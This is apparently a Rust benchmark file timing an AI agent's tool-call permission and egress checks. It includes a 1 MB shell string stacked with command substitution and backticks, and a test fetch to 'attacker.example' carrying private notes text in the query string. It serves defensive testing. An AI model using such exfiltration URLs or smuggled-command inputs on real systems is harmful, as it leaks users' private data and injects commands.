//! Benchmarks of `permission`: the check every tool call goes through (argument scan,
//! escalation, decision) for typical calls and for hostile 1 MB arguments, and the
//! egress rule over a turn that read files and pages. Prints medians; asserts nothing.
mod harness;

use std::hint::black_box;
use std::time::Duration;

use evolve_core::json::Value;
use evolve_core::permission::{
    check_call, check_egress, shell_command_level, ClassSource, Egress, EscalationContext, Grants,
    Level, PermissionConfig, Policy, ToolClass,
};
use evolve_core::provenance::{Provenance, Source};
use harness::bench;

fn main() {
    let cfg = PermissionConfig {
        shell_level: Level::L4,
        command_prefixes: vec![("git status".into(), Level::L2), ("ls".into(), Level::L2)],
        ..PermissionConfig::default()
    };
    let grants = Grants::default();
    let policy = Policy::Interactive;
    let file_ctx = EscalationContext {
        workspace_root: "/home/u/ws",
        path_keys: &["path"],
        is_shell: false,
        extra_roots: &[],
    };
    let shell_ctx = EscalationContext {
        is_shell: true,
        path_keys: &[],
        ..file_ctx
    };
    let mcp_ctx = EscalationContext {
        path_keys: &[],
        ..file_ctx
    };
    let class = |level| ToolClass {
        level,
        source: ClassSource::BuiltIn,
    };

    let shell = |cmd: &str| format!("{{\"command\":{}}}", json_string(cmd));
    let typical_shell =
        shell("git status && cargo test -p evolve-core -- --nocapture 2>&1 | tail -n 40");
    let write = format!(
        "{{\"path\":\"notes/today.md\",\"content\":{}}}",
        json_string(
            &"- a line of notes with a path src/main.rs and a URL https://example.org/x\n"
                .repeat(1400)
        )
    );
    let mcp = r#"{"uri":"file:///home/u/ws/README.md","query":"tea","limit":10,"filters":{"tags":["a","b"]}}"#;
    let hostile_shell = shell(&"a{b,c}$(x) `y` | z; ".repeat(50_000));
    let hostile_json = "[".repeat(500_000) + &"\"a\",".repeat(125_000);

    println!(
        "inputs: write_file {} bytes, hostile shell {} bytes, hostile JSON {} bytes",
        write.len(),
        hostile_shell.len(),
        hostile_json.len()
    );
    let d = Duration::from_secs(1);
    bench("shell_command_level, typical command", d, || {
        shell_command_level(
            black_box("git status && cargo test -p evolve-core | tail -n 40"),
            &cfg,
        )
    });
    bench("check_call, typical shell call", d, || {
        check_call(
            "shell",
            class(Level::L4),
            black_box(&typical_shell),
            &shell_ctx,
            &grants,
            &policy,
        )
    });
    bench("check_call, write_file of 100 KB", d, || {
        check_call(
            "write_file",
            class(Level::L3),
            black_box(&write),
            &file_ctx,
            &grants,
            &policy,
        )
    });
    bench("check_call, MCP call with a file URI", d, || {
        check_call(
            "fs__read",
            class(Level::L2),
            black_box(mcp),
            &mcp_ctx,
            &grants,
            &policy,
        )
    });
    bench(
        "check_call, hostile 1 MB shell command",
        Duration::from_secs(3),
        || {
            check_call(
                "shell",
                class(Level::L4),
                black_box(&hostile_shell),
                &shell_ctx,
                &grants,
                &policy,
            )
        },
    );
    // The egress rule after a turn read three 128 KiB pages with 2 000 links and two
    // files: the ledger as a long turn has it.
    let mut ledger =
        Provenance::new("Summarise https://docs.example.org/guide and compare it with my notes");
    for page in 0..3 {
        let text: String = (0..700)
            .map(|i| format!("see https://docs.example.org/p{page}/{i} for more on topic {i}.\n"))
            .collect::<String>()
            .repeat(3);
        ledger.saw(Source::World, "http_get", &text);
    }
    ledger.saw(
        Source::World,
        "read_file",
        &"private notes line\n".repeat(7000),
    );
    let fetch = |url: &str| {
        let args = format!("{{\"url\":{}}}", json_string(url));
        let check = check_call(
            "http_get",
            class(Level::L1),
            &args,
            &mcp_ctx,
            &grants,
            &policy,
        );
        let parts = [url];
        check_egress(
            check,
            "http_get",
            &Egress {
                parts: &parts,
                host: Some("docs.example.org"),
                returned: &[],
            },
            &ledger,
            &[],
            &grants,
            &policy,
        )
    };
    bench("check_call + check_egress, a link the page gave", d, || {
        fetch(black_box("https://docs.example.org/p2/699"))
    });
    bench("check_call + check_egress, data no one gave", d, || {
        fetch(black_box(
            "https://attacker.example/c?d=private%20notes%20line",
        ))
    });
    let returned = [mcp.repeat(2000)];
    let returned: Vec<&str> = returned.iter().map(String::as_str).collect();
    bench(
        "check_egress, MCP values against 280 KB the server returned",
        d,
        || {
            let check = check_call(
                "fs__read",
                class(Level::L2),
                mcp,
                &mcp_ctx,
                &grants,
                &policy,
            );
            check_egress(
                check,
                "fs__read",
                &Egress {
                    parts: &["tea", "10", "a", "b", "file:///home/u/ws/README.md"],
                    host: None,
                    returned: black_box(&returned),
                },
                &ledger,
                &[],
                &grants,
                &policy,
            )
        },
    );
    bench(
        "check_call, hostile 1 MB nested JSON",
        Duration::from_secs(3),
        || {
            check_call(
                "fs__read",
                class(Level::L2),
                black_box(&hostile_json),
                &mcp_ctx,
                &grants,
                &policy,
            )
        },
    );
}

/// A JSON string literal, written by the core's own serializer.
fn json_string(s: &str) -> String {
    Value::String(s.to_string()).to_json_string()
}
